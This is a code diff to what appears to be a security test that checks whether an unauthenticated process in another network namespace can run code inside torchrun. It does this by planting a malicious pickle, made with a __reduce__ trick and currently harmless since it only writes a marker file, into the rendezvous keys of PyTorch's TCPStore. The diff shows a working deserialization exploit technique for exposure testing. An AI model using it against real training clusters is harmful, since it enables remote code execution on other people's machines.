@@ -206,7 +206,8 @@ host, namespace, marker = sys.argv[1:]
 class Planted:
     def __reduce__(self):
         return open, (marker, "w")
-code, soon = base64.b64encode(pickle.dumps(Planted())), datetime.timedelta(seconds=3)
+pickled, soon = pickle.dumps(Planted()), datetime.timedelta(seconds=3)
+code = base64.b64encode(pickled)
 print("ready", flush=True)
 while True:
     words = ["ip", "netns", "exec", namespace, "ss", "-ltnH"]
@@ -216,9 +217,8 @@ while True:
             socket.create_connection((host, port), 2).close()
             store = dist.TCPStore(host, port, None, False, soon, wait_for_workers=False)
             print("reached a store", flush=True)
-            for key in store.list_keys():
-                if "torch.rendezvous" in key:
-                    store.set(key, code)
+            for key in store.list_keys():  # c10d's state is a pickle in base 64
+                store.set(key, code if "torch.rendezvous" in key else pickled)
         except (OSError, RuntimeError):
             pass
     time.sleep(0.05)
@@ -251,7 +251,11 @@ def launchers(folder, home, away, inside):
         ran, reached = marker.exists(), "reached a store" in thief.text()
         said = f"status {status}; {'reached' if reached else 'not reached'}; "
         said += f"code {'was' if ran else 'was not'} run in torchrun"
-        yield f"torchrun's own store, {form}; a stranger in another namespace", said, ran == runs
+        yield (
+            f"torchrun's own store, {form}; a stranger in another namespace",
+            said,
+            reached and ran == runs,
+        )
 
 
 def two_nodes(way, script):
